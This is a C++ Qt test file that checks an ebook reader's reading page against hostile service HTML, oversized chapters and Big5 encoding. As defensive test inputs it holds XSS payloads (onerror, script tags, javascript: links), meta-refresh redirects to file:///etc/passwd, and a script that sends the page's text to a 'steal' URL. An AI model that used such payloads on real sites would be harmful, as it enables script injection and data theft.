// The reading page against hostile and outsized input: HTML from the service that tries to
// run script, a chapter of megabytes shown in parts that bookmarks find again, and books in
// encodings other than UTF-8 and GBK.
#include "ReadingFixture.h"

#include "reader/ChapterListModel.h"
#include "reader/ReadingController.h"
#include "reader/ReadingPage.h"
#include "reader/ReadingView.h"
#include "reader/text/TextDecoder.h"
#include "web/WebGuard.h"

#include <QSignalSpy>
#include <QtTest>

class TestReadingHostile : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void init();
    void cleanup();

    void serviceHtmlRunsNoScript_data();
    void serviceHtmlRunsNoScript();
    void snippetLosesMetaAndBase_data();
    void snippetLosesMetaAndBase();
    void pageStaysOnReaderHtml_data();
    void pageStaysOnReaderHtml();
    void userClickOnLinkOpensBrowser();
    void longChapterShownInParts();
    void bookmarkFindsItsPart();
    void big5BookAndStoredEncoding();

private:
    ReadingController& controller() { return m_page->controller(); }
    ReadingView* view() { return m_page->view(); }
    void openBook(const QString& path, const QString& bookmark = QString());
    QString writeHeadless(const QString& name, int megabytes);

    std::unique_ptr<ReadingFixture> m_fx;
    std::unique_ptr<RecordingNavigator> m_nav;
    std::unique_ptr<ReadingPage> m_page;
};

void TestReadingHostile::init()
{
    m_fx = std::make_unique<ReadingFixture>();
    m_nav = std::make_unique<RecordingNavigator>();
    m_page = std::make_unique<ReadingPage>(m_fx->services, *m_nav);
    m_page->resize(900, 600);
    m_page->show();
    view()->loadPage(m_fx->state.programFolder + QStringLiteral("/Reader.html"));
    QTRY_VERIFY_WITH_TIMEOUT(view()->isPageLoaded(), 20000);
}

void TestReadingHostile::cleanup()
{
    m_page.reset();
    m_nav.reset();
    m_fx.reset();
}

void TestReadingHostile::openBook(const QString& path, const QString& bookmark)
{
    QSignalSpy shown(&controller(), &ReadingController::chapterShown);
    controller().getChapter(path, bookmark);
    QVERIFY(shown.wait(20000));
}

// A book whose first line is its title and the rest one line of `megabytes` MB.
QString TestReadingHostile::writeHeadless(const QString& name, int megabytes)
{
    QString text = QStringLiteral("无题\n");
    const QString sentence = QStringLiteral("这一段文字没有标题也没有换行，只是一直写下去。");
    while (text.size() * 3 < megabytes * 1024 * 1024)
        text += sentence;
    return m_fx->writeBook(name, text);
}

void TestReadingHostile::serviceHtmlRunsNoScript_data()
{
    QTest::addColumn<QString>("banner");
    QTest::addColumn<QString>("header");
    QTest::addColumn<QString>("footer");
    const QString img = QStringLiteral("<img src=x onerror=\"window.pwned=(window.pwned||0)+1\">");
    QTest::newRow("banner image with onerror") << QStringLiteral("<b>广告</b>") + img << QString() << QString();
    QTest::newRow("header and footer with onerror") << QString() << img << img;
    QTest::newRow("script element, svg onload, javascript link")
        << QStringLiteral("<script>window.pwned=1</script><svg onload=\"window.pwned=1\"></svg>"
                          "<a id=\"js\" href=\"javascript:window.pwned=1\">点我</a>")
        << QStringLiteral("<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>") << QString();
}

// The banner and the chapter snippets come from the network and stay HTML, but the page's
// security policy lets only its own script file run: no event handler, no inline script.
void TestReadingHostile::serviceHtmlRunsNoScript()
{
    QFETCH(QString, banner);
    QFETCH(QString, header);
    QFETCH(QString, footer);
    m_fx->state.bannerHtml = banner;
    m_fx->state.chapterHeaderHtml = header;
    m_fx->state.chapterFooterHtml = footer;
    openBook(m_fx->writeChapters(QStringLiteral("a.txt"), 3));
    // The page's own script still runs: it connects its channel to the program.
    QTRY_VERIFY_WITH_TIMEOUT(runJs(view(), QStringLiteral("window.readerChannelReady === true")).toBool(), 10000);

    // Count the failing images from outside the page, then show chapter 1 so that they fail
    // once more while the counter watches.
    runJs(view(), QStringLiteral("window.failed = 0; document.addEventListener('error', function () { "
                                 "window.failed++; }, true); true"));
    controller().setSelectedRow(1);
    controller().showSelected();
    const int images = int(banner.count(QStringLiteral("<img")) + header.count(QStringLiteral("<img")) +
                           footer.count(QStringLiteral("<img")));
    if (images > 0)
        QTRY_COMPARE_WITH_TIMEOUT(runJs(view(), QStringLiteral("window.failed")).toInt(), images, 10000);
    else
        QTest::qWait(500);
    if (banner.contains(QLatin1String("javascript:")))
        runJs(view(), QStringLiteral("document.getElementById('js').click(); true"));
    QTest::qWait(200);
    QCOMPARE(runJs(view(), QStringLiteral("typeof window.pwned")).toString(), QStringLiteral("undefined"));

    // Still HTML: the markup became elements.
    if (banner.contains(QLatin1String("<b>")))
        QVERIFY(runJs(view(), QStringLiteral("document.querySelector('#AdsDiv b') !== null")).toBool());
    QVERIFY(
        runJs(view(), QStringLiteral("document.getElementById('TXT').textContent.indexOf('内容1甲') >= 0")).toBool());
    // And a real key press still reaches the program through the page's script.
    view()->setFocus();
    QTest::keyClick(view()->focusProxy(), Qt::Key_Right);
    QTRY_COMPARE_WITH_TIMEOUT(controller().selectedRow(), 2, 5000);
}

void TestReadingHostile::snippetLosesMetaAndBase_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("kept");
    QTest::newRow("refresh tag")
        << QStringLiteral("<b>广告</b><meta http-equiv=\"refresh\" content=\"0;url=file:///etc/passwd\">尾")
        << QStringLiteral("<b>广告</b>尾");
    QTest::newRow("capitals, self-closed, no blank")
        << QStringLiteral("a<META/HTTP-EQUIV=Refresh CONTENT=0>b<Base\nhref=file:///etc/>c") << QStringLiteral("abc");
    QTest::newRow("quoted '>' inside the tag")
        << QStringLiteral("x<meta content = '1>2' http-equiv=refresh>y") << QStringLiteral("xy");
    QTest::newRow("a '<' left to join what follows")
        << QStringLiteral("<<meta>meta http-equiv=refresh content=0>z") << QStringLiteral("z");
    QTest::newRow("tag left open runs to the end")
        << QStringLiteral("ok<base href=\"http://127.0.0.1:1/") << QStringLiteral("ok");
    QTest::newRow("lookalikes stay") << QStringLiteral("<metadata>1</metadata><basefont>< meta>&lt;meta&gt;")
                                     << QStringLiteral("<metadata>1</metadata><basefont>< meta>&lt;meta&gt;");
    QTest::newRow("end tags go too") << QStringLiteral("<p>a</p></meta></base>")
                                     << QStringLiteral("<p>a</p></meta></base>");
}

void TestReadingHostile::snippetLosesMetaAndBase()
{
    QFETCH(QString, html);
    QFETCH(QString, kept);
    QCOMPARE(withoutMetaAndBase(html), kept);
}

void TestReadingHostile::pageStaysOnReaderHtml_data()
{
    QTest::addColumn<QString>("banner");
    QTest::addColumn<QString>("header");
    QTest::addColumn<QString>("script"); // run by the page once the chapter shows
    const QString link = QStringLiteral("<a id=\"l\" href=\"http://127.0.0.1:1/steal?d=1\">更多</a>");
    QTest::newRow("banner refresh to a local file")
        << QStringLiteral("<meta http-equiv=\"refresh\" content=\"0;url=file:///etc/passwd\">") << QString()
        << QString();
    QTest::newRow("header refresh to the service")
        << QString() << QStringLiteral("<META HTTP-EQUIV=Refresh CONTENT=\"0;URL=http://127.0.0.1:1/x\">") << QString();
    QTest::newRow("script to a local file")
        << QString() << QString() << QStringLiteral("location.href='file:///etc/hostname'");
    QTest::newRow("script to the service with the page's text")
        << QString() << QString()
        << QStringLiteral("location.href='http://127.0.0.1:1/steal?d='+encodeURIComponent(document.body.innerText)");
    QTest::newRow("script clicks a banner link")
        << link << QString() << QStringLiteral("document.getElementById('l').click()");
    QTest::newRow("banner image of a local file")
        << QStringLiteral("<img id=\"f\" src=\"file:///usr/share/gitweb/static/git-logo.png\">") << QString()
        << QString();
}

// Nothing in the service's snippets or a script in the page moves the reading page, reads a
// local file into it or reaches the desktop's browser.
void TestReadingHostile::pageStaysOnReaderHtml()
{
    QFETCH(QString, banner);
    QFETCH(QString, header);
    QFETCH(QString, script);
    const QUrl readerHtml = view()->url();
    m_fx->state.bannerHtml = banner;
    m_fx->state.chapterHeaderHtml = header;
    openBook(m_fx->writeChapters(QStringLiteral("a.txt"), 3));
    QTRY_VERIFY_WITH_TIMEOUT(runJs(view(), QStringLiteral("window.readerChannelReady === true")).toBool(), 10000);
    QSignalSpy shown(view(), &ReadingView::chapterDisplayed);
    controller().setSelectedRow(1);
    controller().showSelected();
    QVERIFY(shown.wait(5000));
    if (!script.isEmpty())
        runJs(view(), script + QStringLiteral("; true"));
    QTest::qWait(1500);
    QCOMPARE(view()->url(), readerHtml);
    QVERIFY(runJs(view(), QStringLiteral("document.title === '阅读窗口' && "
                                         "document.getElementById('TXT').textContent.indexOf('内容1甲') >= 0"))
                .toBool());
    QCOMPARE(m_fx->desktop.urls, QStringList());
    QCOMPARE(runJs(view(), QStringLiteral("document.querySelectorAll('meta, base').length")).toInt(), 2);
    QCOMPARE(
        runJs(view(), QStringLiteral("(function(){var f=document.getElementById('f');return f?f.naturalWidth:0;})()"))
            .toInt(),
        0);
    // Nor can a script of the page read a local file.
    QCOMPARE(runJs(view(), QStringLiteral("(function(){try{var x=new XMLHttpRequest();x.open('GET','file:///etc/"
                                          "hostname',false);x.send();return x.responseText;}catch(e){return '';}})()"))
                 .toString(),
             QString());
}

// A click of the user's own on a banner link is what the desktop's browser opens.
void TestReadingHostile::userClickOnLinkOpensBrowser()
{
    const QUrl readerHtml = view()->url();
    m_fx->state.bannerHtml = QStringLiteral(
        "<a id=\"l\" href=\"http://127.0.0.1:1/more\" style=\"display:inline-block;width:300px;height:60px\">更多</a>");
    openBook(m_fx->writeChapters(QStringLiteral("a.txt"), 3));
    QTRY_VERIFY_WITH_TIMEOUT(runJs(view(), QStringLiteral("window.readerChannelReady === true")).toBool(), 10000);
    const QVariantList rect = runJs(view(), QStringLiteral("(function(){var r=document.getElementById('l')."
                                                           "getBoundingClientRect();return [r.left+r.width/2,r.top+r."
                                                           "height/2];})()"))
                                  .toList();
    QCOMPARE(rect.size(), 2);
    const QPoint centre(qRound(rect[0].toDouble()), qRound(rect[1].toDouble()));
    QTest::mouseClick(view()->focusProxy(), Qt::LeftButton, {}, centre);
    QTRY_COMPARE_WITH_TIMEOUT(m_fx->desktop.urls, QStringList{QStringLiteral("http://127.0.0.1:1/more")}, 5000);
    QCOMPARE(view()->url(), readerHtml);
}

// A 4 MB chapter without headings comes up in parts: the first at once, the next on Right.
void TestReadingHostile::longChapterShownInParts()
{
    const QString path = writeHeadless(QStringLiteral("long.txt"), 4);
    openBook(path);
    ChapterListModel& model = m_page->chapterModel();
    QVERIFY(model.count() >= 4 * 1024 * 1024 / ScanLimits::kDefaultPartBytes);
    QCOMPARE(model.label(0), QStringLiteral("无题（第1部分）"));
    QCOMPARE(model.label(1), QStringLiteral("无题（第2部分）"));
    QTRY_VERIFY_WITH_TIMEOUT(txtHtml(view()).contains(QStringLiteral("这一段文字没有标题")), 10000);
    const int shown = int(txtHtml(view()).size());
    QVERIFY(shown < 2 * ScanLimits::kDefaultPartBytes);

    controller().changeChapter(ReadingController::KeyRight);
    QTRY_COMPARE_WITH_TIMEOUT(model.nowChapter(), 1, 5000);
    QTRY_COMPARE_WITH_TIMEOUT(txtHtml(view()), readChapterHtml(controller().scan(), 1), 10000);
    QCOMPARE(m_fx->dialogs.count(), 0);
}

// A bookmark set on a part holds that part's label and opens that part again.
void TestReadingHostile::bookmarkFindsItsPart()
{
    const QString path = writeHeadless(QStringLiteral("marked.txt"), 1);
    QVERIFY(m_fx->library.insertBook(QStringLiteral("其他分类"), QStringLiteral("无题"), QStringLiteral("佚名"), path));
    openBook(path);
    QVERIFY(m_page->chapterModel().count() >= 4);
    controller().setSelectedRow(3);
    controller().showSelected();
    m_page->addBookmark();
    QCOMPARE(m_fx->dialogs.last().text, QStringLiteral("恭喜你：书签添加成功！"));
    QCOMPARE(m_fx->library.bookByPath(path)->marke, QStringLiteral("无题（第4部分）"));

    openBook(path, m_fx->library.bookByPath(path)->marke);
    QCOMPARE(controller().selectedRow(), 3);
    controller().showFirst();
    m_page->gotoBookmark();
    QCOMPARE(controller().selectedRow(), 3);
}

// A Big5 book reads without help; a book the user chose an encoding for is read in it.
void TestReadingHostile::big5BookAndStoredEncoding()
{
    const QString text =
        QStringLiteral("繁體之書\n第一回　開卷\n話說天下大勢，分久必合，合久必分。\n第二回　續篇\n乙\n");
    const QString path = m_fx->writeBook(QStringLiteral("big5.txt"), QString());
    {
        QFile f(path);
        QVERIFY(f.open(QIODevice::WriteOnly) && f.write(encodeText(text, TextEncoding::Big5)) > 0);
    }
    openBook(path);
    QCOMPARE(m_page->chapterModel().label(1), QStringLiteral("第一回　開卷"));
    QCOMPARE(m_page->chapterModel().label(0), QStringLiteral("繁體之書"));
    controller().setSelectedRow(1);
    controller().showSelected();
    QTRY_VERIFY_WITH_TIMEOUT(txtHtml(view()).contains(QStringLiteral("話說天下大勢")), 10000);

    QVERIFY(m_fx->library.setBookEncoding(path, QStringLiteral("GB18030")));
    openBook(path);
    QCOMPARE(int(controller().scan().encoding), int(TextEncoding::Gb18030));
    QVERIFY(m_page->chapterModel().label(1) != QStringLiteral("第一回　開卷"));
}

QTEST_MAIN(TestReadingHostile)
#include "tst_readinghostile.moc"
